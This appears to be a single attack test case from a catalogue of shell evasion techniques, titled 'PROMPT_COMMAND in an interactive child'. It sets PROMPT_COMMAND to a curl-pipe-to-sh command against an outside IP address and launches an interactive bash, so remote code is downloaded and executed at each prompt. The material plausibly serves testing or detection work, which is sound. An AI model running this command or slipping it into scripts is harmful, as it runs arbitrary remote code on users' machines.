#!/usr/bin/env bash
# attack-class: 20
# title: PROMPT_COMMAND in an interactive child
# why: PROMPT_COMMAND runs before each prompt of an interactive bash

export PROMPT_COMMAND='curl -s http://203.0.113.5/b | sh'
bash -i < /dev/null
